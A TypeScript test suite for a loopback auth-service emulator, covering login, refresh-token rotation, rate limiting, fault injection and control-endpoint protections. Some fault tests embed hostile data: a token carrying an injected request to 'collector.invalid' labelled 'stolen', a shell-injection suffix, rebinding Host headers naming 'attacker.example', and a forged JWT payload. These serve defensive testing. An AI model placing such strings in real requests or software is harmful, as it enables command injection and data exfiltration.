// The service emulator as a real server over loopback, driven with Node's global fetch: login, refresh,
// faults, the rig's stats and control endpoints, and the demo service as shipped.
import * as assert from 'node:assert/strict';
import { startEmulator as startDemoService, type RunningEmulator } from '../../src/emulator/server';
import { startEmulator, type RigConfig, type RiggedEmulator } from '../emulator/rig';
import { ADMIN, claimsOf, post, raw, reply, USER, USER2, type Reply } from './emulatorHttp';

describe('emulator: server', () => {
	let running: RiggedEmulator[] = [];

	async function start(config: Partial<RigConfig> = {}): Promise<RiggedEmulator> {
		const emulator = await startEmulator(config);
		running.push(emulator);
		return emulator;
	}

	afterEach(async () => {
		await Promise.all(running.map((e) => e.close()));
		running = [];
	});

	const userBody = { LoginFields: { deviceToken: USER.deviceToken }, Password: USER.instanceKey };
	const userHeaders = { InstanceId: USER.instanceId };

	function loginUser(em: RiggedEmulator, body: unknown = userBody, headers: Record<string, string> = userHeaders): Promise<Reply> {
		return post(`${em.url}/v1/Auth/Login`, body, headers);
	}

	function refresh(em: RiggedEmulator, body: unknown): Promise<Reply> {
		return post(`${em.url}/v1/Auth/RefreshToken`, body);
	}

	it('listens on loopback with a URL without a trailing slash', async () => {
		const em = await start();
		assert.match(em.url, /^http:\/\/127\.0\.0\.1:\d+$/);
		assert.equal(em.url, `http://127.0.0.1:${em.port}`);
	});

	describe('login', () => {
		const userForms: { name: string; body: unknown; headers?: Record<string, string> }[] = [
			{ name: 'object, deviceToken', body: { LoginFields: { deviceToken: USER.deviceToken }, Password: USER.instanceKey } },
			{ name: 'object, DeviceToken, camelCase top level', body: { loginFields: { DeviceToken: USER.deviceToken }, password: USER.instanceKey } },
			{ name: 'string, Devicetoken', body: { LoginFields: JSON.stringify({ Devicetoken: USER.deviceToken }), Password: USER.instanceKey } },
			{ name: 'lower-case header, InstanceKey sent', body: userBody, headers: { instanceid: USER.instanceId, instancekey: USER.instanceKey } },
			{ name: 'application/json-patch+json', body: userBody, headers: { ...userHeaders, 'Content-Type': 'application/json-patch+json' } },
		];
		for (const form of userForms) {
			it(`logs a user in (${form.name})`, async () => {
				const em = await start();
				const r = await loginUser(em, form.body, form.headers ?? userHeaders);
				assert.equal(r.status, 200);
				assert.equal(r.json.Status, 200);
				assert.equal(r.json.Title, '');
				assert.deepEqual(r.json.Errors, []);
				assert.equal(r.json.Result.DeviceToken, USER.deviceToken);
				assert.equal(r.json.Result.AccessToken.ExpiresIn, 7200);
				assert.equal(typeof r.json.Result.RefreshToken, 'string');
				const claims = claimsOf(r.json.Result.AccessToken.Token);
				assert.equal(claims.role, 'user');
				assert.equal(claims.instanceId, USER.instanceId);
				assert.equal(claims.name, USER.name);
				assert.equal(claims.iss, em.url);
			});
		}

		const adminForms: { name: string; body: unknown; headers: Record<string, string> }[] = [
			{ name: 'object Email, with InstanceId', body: { LoginFields: { Email: ADMIN.email }, Password: ADMIN.password }, headers: { InstanceId: ADMIN.instanceId } },
			{ name: 'string email, no InstanceId', body: { loginFields: JSON.stringify({ email: ADMIN.email }), password: ADMIN.password }, headers: {} },
		];
		for (const form of adminForms) {
			it(`logs an admin in (${form.name})`, async () => {
				const em = await start();
				const r = await post(`${em.url}/v1/Auth/Login`, form.body, form.headers);
				assert.equal(r.status, 200);
				assert.equal('DeviceToken' in r.json.Result, false);
				const claims = claimsOf(r.json.Result.AccessToken.Token);
				assert.equal(claims.role, 'admin');
				assert.equal(claims.name, ADMIN.email);
				assert.equal(claims.instanceId, ADMIN.instanceId);
			});
		}

		it('answers a wrong password with a bare 401 envelope', async () => {
			const em = await start();
			const r = await loginUser(em, { ...userBody, Password: 'wrong' });
			assert.equal(r.status, 401);
			assert.deepEqual(r.json, { Result: null, Status: 401, Title: 'Unauthorized', Errors: [] });
		});

		it('answers an unaccepted inner casing with 401, as the vendor sample warns', async () => {
			const em = await start();
			const r = await loginUser(em, { LoginFields: { DEVICETOKEN: USER.deviceToken }, Password: USER.instanceKey });
			assert.equal(r.status, 401);
		});

		const validation: { name: string; body: unknown; headers: Record<string, string>; key: string }[] = [
			{ name: 'a user login without InstanceId', body: userBody, headers: {}, key: 'InstanceId' },
			{ name: 'no LoginFields', body: { Password: 'p' }, headers: userHeaders, key: 'LoginFields' },
			{ name: 'no Password', body: { LoginFields: { deviceToken: 'd' } }, headers: userHeaders, key: 'Password' },
			{ name: 'unparseable JSON', body: '{"LoginFields":', headers: userHeaders, key: 'body' },
		];
		for (const c of validation) {
			it(`answers ${c.name} with 422 on Key ${c.key}`, async () => {
				const em = await start();
				const r = await loginUser(em, c.body, c.headers);
				assert.equal(r.status, 422);
				assert.equal(r.json.Status, 422);
				assert.equal(r.json.Result, null);
				assert.equal(r.json.Errors[0].Key, c.key);
				assert.equal(typeof r.json.Errors[0].Message, 'string');
			});
		}

		it('requires InstanceId for admins when configured to', async () => {
			const em = await start({ requireInstanceHeaderForAdmin: true });
			const r = await post(`${em.url}/v1/Auth/Login`, { LoginFields: { Email: ADMIN.email }, Password: ADMIN.password });
			assert.equal(r.status, 422);
			assert.equal(r.json.Errors[0].Key, 'InstanceId');
		});

		it('answers the wrong kind of login with 403, both ways', async () => {
			const em = await start();
			const userAtApi = await loginUser(em, userBody, { InstanceId: ADMIN.instanceId });
			assert.equal(userAtApi.status, 403);
			assert.equal(userAtApi.json.Status, 403);
			const adminAtGroup = await post(`${em.url}/v1/Auth/Login`, { LoginFields: { Email: ADMIN.email }, Password: ADMIN.password }, { InstanceId: USER.instanceId });
			assert.equal(adminAtGroup.status, 403);
		});

		it('refuses a body that is not JSON by media type with 415', async () => {
			const em = await start();
			const r = await loginUser(em, JSON.stringify(userBody), { ...userHeaders, 'Content-Type': 'text/plain' });
			assert.equal(r.status, 415);
			assert.equal(r.json.Status, 415);
		});

		it('rate-limits logins per IP, failed ones too, with Retry-After; refresh is not limited', async () => {
			const em = await start({ loginRateLimit: { max: 2, windowSeconds: 60, blockSeconds: 120 } });
			const first = await loginUser(em);
			assert.equal((await loginUser(em, { ...userBody, Password: 'wrong' })).status, 401);
			const limited = await loginUser(em);
			assert.equal(limited.status, 429);
			assert.equal(limited.json.Status, 429);
			assert.equal(limited.json.Result, null);
			assert.equal(limited.headers.get('retry-after'), '120');
			const refreshed = await refresh(em, { AccessToken: first.json.Result.AccessToken.Token, RefreshToken: first.json.Result.RefreshToken });
			assert.equal(refreshed.status, 200);
			em.resetRateLimit();
			assert.equal((await loginUser(em)).status, 200);
		});

		it('issues distinct tokens each time, with exp = iat + lifetime', async () => {
			const em = await start({ accessTokenLifetimeSeconds: 600 });
			const a = await loginUser(em);
			const b = await loginUser(em);
			assert.notEqual(a.json.Result.AccessToken.Token, b.json.Result.AccessToken.Token);
			assert.notEqual(a.json.Result.RefreshToken, b.json.Result.RefreshToken);
			const claims = claimsOf(a.json.Result.AccessToken.Token);
			assert.equal(claims.exp, claims.iat + 600);
			assert.equal(claims.nbf, claims.iat);
			assert.equal(a.json.Result.AccessToken.ExpiresIn, 600);
			assert.notEqual(claims.jti, claimsOf(b.json.Result.AccessToken.Token).jti);
			for (const key of ['sub', 'aud']) assert.equal(typeof claims[key], 'string');
			assert.ok(!claims.sub.includes(USER.deviceToken), 'sub does not reveal the device token');
		});

		it('setAccessTokenLifetime changes the next token', async () => {
			const em = await start();
			em.setAccessTokenLifetime(30);
			const r = await loginUser(em);
			const claims = claimsOf(r.json.Result.AccessToken.Token);
			assert.equal(claims.exp - claims.iat, 30);
			assert.equal(r.json.Result.AccessToken.ExpiresIn, 30);
		});
	});

	describe('refresh', () => {
		it('rotates: new access and refresh tokens, and the old refresh token is spent', async () => {
			const em = await start();
			const login = (await loginUser(em)).json.Result;
			const first = await refresh(em, { AccessToken: login.AccessToken.Token, RefreshToken: login.RefreshToken });
			assert.equal(first.status, 200);
			assert.equal(first.json.Status, 200);
			assert.equal(first.json.Result.DeviceToken, USER.deviceToken);
			assert.notEqual(first.json.Result.RefreshToken, login.RefreshToken);
			assert.notEqual(first.json.Result.AccessToken.Token, login.AccessToken.Token);
			assert.equal(claimsOf(first.json.Result.AccessToken.Token).sub, claimsOf(login.AccessToken.Token).sub);

			const reused = await refresh(em, { AccessToken: first.json.Result.AccessToken.Token, RefreshToken: login.RefreshToken });
			assert.equal(reused.status, 401);
			assert.deepEqual(reused.json, { Result: null, Status: 401, Title: 'Unauthorized', Errors: [] });

			const second = await refresh(em, { accessToken: first.json.Result.AccessToken.Token, refreshToken: first.json.Result.RefreshToken });
			assert.equal(second.status, 200, 'camelCase body and the new refresh token work');
		});

		it('refuses a tampered access token without spending the refresh token', async () => {
			const em = await start();
			const login = (await loginUser(em)).json.Result;
			const [h, p, s] = (login.AccessToken.Token as string).split('.');
			const payload = Buffer.from(JSON.stringify({ ...claimsOf(login.AccessToken.Token), exp: 9999999999 })).toString('base64url');
			assert.notEqual(payload, p);
			const tampered = await refresh(em, { AccessToken: `${h}.${payload}.${s}`, RefreshToken: login.RefreshToken });
			assert.equal(tampered.status, 401);
			const genuine = await refresh(em, { AccessToken: login.AccessToken.Token, RefreshToken: login.RefreshToken });
			assert.equal(genuine.status, 200);
		});

		it('refuses an access token signed by another emulator', async () => {
			const em = await start();
			const other = await start();
			const mine = (await loginUser(em)).json.Result;
			const theirs = (await loginUser(other)).json.Result;
			const r = await refresh(em, { AccessToken: theirs.AccessToken.Token, RefreshToken: mine.RefreshToken });
			assert.equal(r.status, 401);
		});

		it('accepts an expired access token with a valid refresh token', async () => {
			const em = await start();
			em.setAccessTokenLifetime(-60);
			const login = (await loginUser(em)).json.Result;
			assert.ok(claimsOf(login.AccessToken.Token).exp * 1000 < Date.now(), 'the token is expired');
			em.setAccessTokenLifetime(7200);
			const r = await refresh(em, { AccessToken: login.AccessToken.Token, RefreshToken: login.RefreshToken });
			assert.equal(r.status, 200);
			assert.ok(claimsOf(r.json.Result.AccessToken.Token).exp * 1000 > Date.now());
		});

		it('refuses an expired refresh token', async () => {
			const em = await start({ refreshTokenLifetimeSeconds: 0 });
			const login = (await loginUser(em)).json.Result;
			const r = await refresh(em, { AccessToken: login.AccessToken.Token, RefreshToken: login.RefreshToken });
			assert.equal(r.status, 401);
		});

		it('refuses another subject\'s refresh token', async () => {
			const em = await start();
			const a = (await loginUser(em)).json.Result;
			const b = (await loginUser(em, { LoginFields: { deviceToken: USER2.deviceToken }, Password: USER2.instanceKey })).json.Result;
			const r = await refresh(em, { AccessToken: a.AccessToken.Token, RefreshToken: b.RefreshToken });
			assert.equal(r.status, 401);
		});

		it('a new login spends the subject\'s previous refresh token, unless configured otherwise', async () => {
			const single = await start();
			const old = (await loginUser(single)).json.Result;
			await loginUser(single);
			assert.equal((await refresh(single, { AccessToken: old.AccessToken.Token, RefreshToken: old.RefreshToken })).status, 401);

			const chains = await start({ singleRefreshTokenPerSubject: false });
			const first = (await loginUser(chains)).json.Result;
			await loginUser(chains);
			assert.equal((await refresh(chains, { AccessToken: first.AccessToken.Token, RefreshToken: first.RefreshToken })).status, 200);
			assert.equal((await refresh(chains, { AccessToken: first.AccessToken.Token, RefreshToken: first.RefreshToken })).status, 401, 'still good once only');
		});

		it('names missing fields with 422', async () => {
			const em = await start();
			const r = await refresh(em, { AccessToken: 'x' });
			assert.equal(r.status, 422);
			assert.equal(r.json.Errors[0].Key, 'RefreshToken');
		});
	});

	describe('faults', () => {
		it('hang: never answers; the client times out and close() still finishes', async () => {
			const em = await start({ faults: { login: 'hang' } });
			await assert.rejects(post(`${em.url}/v1/Auth/Login`, userBody, userHeaders, AbortSignal.timeout(200)), (e: Error) => e.name === 'TimeoutError');
			assert.equal(em.stats.requests.at(-1)?.status, 0);
			await em.close();
		});

		it('reset: the connection is destroyed and fetch rejects', async () => {
			const em = await start({ faults: { refresh: 'reset' } });
			await assert.rejects(refresh(em, { AccessToken: 'a', RefreshToken: 'r' }), TypeError);
			assert.equal((await loginUser(em)).status, 200, 'login is unaffected');
		});

		it('html502: an HTML bad gateway page', async () => {
			const em = await start({ faults: { login: 'html502' } });
			const r = await loginUser(em);
			assert.equal(r.status, 502);
			assert.match(r.headers.get('content-type') ?? '', /^text\/html/);
			assert.match(r.text, /502 Bad Gateway/);
			assert.equal(r.json, undefined);
		});

		it('slow: answers correctly after slowMs', async () => {
			const em = await start({ faults: { login: 'slow', slowMs: 20 } });
			assert.equal((await loginUser(em)).status, 200);
		});

		it('error500: a 500 envelope', async () => {
			const em = await start({ faults: { login: 'error500' } });
			const r = await loginUser(em);
			assert.equal(r.status, 500);
			assert.equal(r.json.Status, 500);
			assert.equal(r.json.Result, null);
		});

		it('bodyStatusMismatch: HTTP 200 with Status 401 in the body', async () => {
			const em = await start();
			em.setFaults({ refresh: 'bodyStatusMismatch' });
			const r = await refresh(em, { AccessToken: 'a', RefreshToken: 'r' });
			assert.equal(r.status, 200);
			assert.equal(r.json.Status, 401);
			assert.equal(r.json.Result, null);
		});

		it('rateLimited: a 429 envelope with Retry-After on the faulted endpoint only, spending nothing', async () => {
			const em = await start();
			const login = (await loginUser(em)).json.Result;
			em.setFaults({ refresh: 'rateLimited' });
			const r = await refresh(em, { AccessToken: login.AccessToken.Token, RefreshToken: login.RefreshToken });
			assert.equal(r.status, 429);
			assert.equal(r.json.Status, 429);
			assert.equal(r.json.Result, null);
			assert.equal(r.json.Title, 'Too Many Requests');
			assert.equal(r.headers.get('retry-after'), '60');
			const other = await loginUser(em, { LoginFields: { deviceToken: USER2.deviceToken }, Password: USER2.instanceKey });
			assert.equal(other.status, 200, 'login is unaffected');
			em.setFaults({});
			const after = await refresh(em, { AccessToken: login.AccessToken.Token, RefreshToken: login.RefreshToken });
			assert.equal(after.status, 200, 'the refused refresh did not spend the refresh token');
		});

		it('count: the fault applies to the next N requests, then the endpoint recovers', async () => {
			const em = await start();
			em.setFaults({ login: 'error500', count: 2 });
			assert.equal((await loginUser(em)).status, 500);
			assert.equal((await loginUser(em)).status, 500);
			assert.equal((await loginUser(em)).status, 200);
			assert.equal(em.config.faults.login, 'none');
		});

		it('close() ends a slow request in flight', async () => {
			const em = await start({ faults: { login: 'slow', slowMs: 60_000 } });
			const pending = loginUser(em);
			while (em.stats.loginCalls === 0) await new Promise((r) => setTimeout(r, 5));
			await em.close();
			await assert.rejects(pending);
		});
	});

	describe('stats and control endpoints', () => {
		it('counts calls and keeps the last bodies and instance headers', async () => {
			const em = await start();
			const login = (await loginUser(em)).json.Result;
			await refresh(em, { AccessToken: login.AccessToken.Token, RefreshToken: login.RefreshToken });
			assert.equal(em.stats.loginCalls, 1);
			assert.equal(em.stats.refreshCalls, 1);
			assert.deepEqual(em.stats.lastLoginBody, userBody);
			assert.equal(em.stats.lastLoginHeaders?.InstanceId, USER.instanceId);
			assert.deepEqual((em.stats.lastRefreshBody as Record<string, unknown>).RefreshToken, login.RefreshToken);
			assert.deepEqual(em.stats.requests.map((r) => [r.method, r.path, r.status]), [
				['POST', '/v1/Auth/Login', 200],
				['POST', '/v1/Auth/RefreshToken', 200],
			]);
			em.resetStats();
			assert.equal(em.stats.loginCalls, 0);
			assert.deepEqual(em.stats.requests, []);
		});

		it('GET /__emulator/stats, POST faults, lifetime and reset work over HTTP', async () => {
			const em = await start({ loginRateLimit: { max: 1, windowSeconds: 60, blockSeconds: 60 } });
			await loginUser(em);
			const stats = await reply(await fetch(`${em.url}/__emulator/stats`));
			assert.equal(stats.json.loginCalls, 1);
			assert.equal(stats.json.requests.length, 1, 'control requests are not recorded');

			assert.equal((await post(`${em.url}/__emulator/faults`, { login: 'html502', count: 1 })).status, 200);
			assert.equal((await loginUser(em)).status, 502);
			assert.equal((await post(`${em.url}/__emulator/faults`, { login: 'explode' })).status, 422);

			assert.equal((await loginUser(em)).status, 429);
			assert.equal((await post(`${em.url}/__emulator/reset`, {})).status, 200);
			assert.equal(em.stats.loginCalls, 0);

			const lifetime = await post(`${em.url}/__emulator/lifetime`, { seconds: 45 });
			assert.equal(lifetime.json.seconds, 45);
			const r = await loginUser(em);
			assert.equal(r.status, 200, 'the rate limit was reset');
			assert.equal(r.json.Result.AccessToken.ExpiresIn, 45);
		});
	});

	describe('control endpoints refuse what a web page could send', () => {

		it('a Host that is not loopback (DNS rebinding) gets 403, and nothing changes', async () => {
			const em = await start();
			assert.equal(await raw(`${em.url}/__emulator/faults`, 'POST', { 'Host': 'attacker.example:80', 'Content-Type': 'application/json' }, '{"login":"hang"}'), 403);
			assert.equal(await raw(`${em.url}/__emulator/stats`, 'GET', { Host: 'rebind.attacker.example' }), 403);
			assert.deepEqual(em.config.faults, {});
		});

		it('a POST that is not JSON (a cross-site form) gets 415, and nothing changes', async () => {
			const em = await start();
			for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x']) {
				assert.equal(await raw(`${em.url}/__emulator/faults`, 'POST', { 'Content-Type': type }, '{"login":"hang"}'), 415, type);
			}
			assert.deepEqual(em.config.faults, {});
			assert.equal(await raw(`${em.url}/__emulator/faults`, 'POST', { 'Content-Type': 'application/json', 'Host': 'localhost' }, '{"login":"hang"}'), 200);
		});
	});

	describe('hostile-answer faults', () => {
		it('injectedToken and shellToken answer 200 with a real token plus a new request or a shell command', async () => {
			const em = await start();
			em.setFaults({ login: 'injectedToken' });
			const injected = (await loginUser(em)).json.Result.AccessToken.Token as string;
			assert.ok(injected.includes('\r\n### stolen\r\nPOST http://collector.invalid/'));
			em.setFaults({ login: 'shellToken' });
			assert.ok(((await loginUser(em)).json.Result.AccessToken.Token as string).endsWith("'; echo INJECTED; : '"));
		});

		it('expiredToken issues a token that expired a minute ago; absurdExp one with exp 1e16; both refresh', async () => {
			const em = await start();
			em.setFaults({ login: 'expiredToken' });
			const first = (await loginUser(em)).json.Result;
			const exp = JSON.parse(Buffer.from(first.AccessToken.Token.split('.')[1], 'base64url').toString()).exp as number;
			assert.ok(exp * 1000 < Date.now(), 'already expired');
			em.setFaults({ refresh: 'absurdExp' });
			const second = (await refresh(em, { AccessToken: first.AccessToken.Token, RefreshToken: first.RefreshToken })).json.Result;
			assert.equal(JSON.parse(Buffer.from(second.AccessToken.Token.split('.')[1], 'base64url').toString()).exp, 1e16);
		});
	});

	describe('other paths', () => {
		it('serves a swagger page documenting both endpoints', async () => {
			const em = await start();
			const r = await reply(await fetch(`${em.url}/swagger/index.html`));
			assert.equal(r.status, 200);
			assert.match(r.headers.get('content-type') ?? '', /^text\/html/);
			assert.match(r.text, /\/v1\/Auth\/Login/);
			assert.match(r.text, /\/v1\/Auth\/RefreshToken/);
			assert.doesNotMatch(r.text, /<(script|link|img)[^>]+(src|href)=/i, 'no external assets');
		});

		it('answers unknown paths with a 404 envelope and wrong methods with 405', async () => {
			const em = await start();
			const missing = await post(`${em.url}/v1/Auth/Nope`, {});
			assert.equal(missing.status, 404);
			assert.equal(missing.json.Status, 404);
			assert.equal(missing.json.Result, null);
			const get = await reply(await fetch(`${em.url}/v1/Auth/Login`));
			assert.equal(get.status, 405);
		});
	});
});


describe('the demo service as shipped (no test rig)', function () {
	this.timeout(10_000);
	let demo: RunningEmulator;
	beforeEach(async () => {
		demo = await startDemoService({ loginRateLimit: { max: 2, windowSeconds: 60, blockSeconds: 600 } });
	});
	afterEach(() => demo.close());

	const login = JSON.stringify({ LoginFields: { DeviceToken: USER.deviceToken }, Password: USER.instanceKey });
	const headers = { 'InstanceId': USER.instanceId, 'InstanceKey': USER.instanceKey };

	it('a web page cannot lock the demo login out: cross-site forms and rebound hosts are refused without counting', async () => {
		for (let i = 0; i < 5; i++) {
			assert.equal(await raw(`${demo.url}/v1/auth/login`, 'POST', { ...headers, 'Content-Type': 'text/plain' }, login), 415);
			assert.equal(await raw(`${demo.url}/v1/auth/login`, 'POST', { ...headers, 'Content-Type': 'application/json', 'Host': `rebind.attacker.example:${demo.port}` }, login), 403);
		}
		assert.equal(await raw(`${demo.url}/v1/auth/login`, 'POST', { ...headers, 'Content-Type': 'application/json' }, login), 200, 'the person\'s own login still works');
	});

	it('has no control endpoints, faults or stats', async () => {
		assert.equal(await raw(`${demo.url}/__emulator/stats`, 'GET', {}), 404);
		assert.equal(await raw(`${demo.url}/__emulator/faults`, 'POST', { 'Content-Type': 'application/json' }, '{"login":"hang"}'), 404);
		assert.equal(await raw(`${demo.url}/__emulator/reset`, 'POST', { 'Content-Type': 'application/json' }, '{}'), 404);
		assert.deepEqual(Object.keys(demo).filter((k) => /stats|fault/i.test(k)), []);
		assert.equal('faults' in demo.config, false);
	});
});
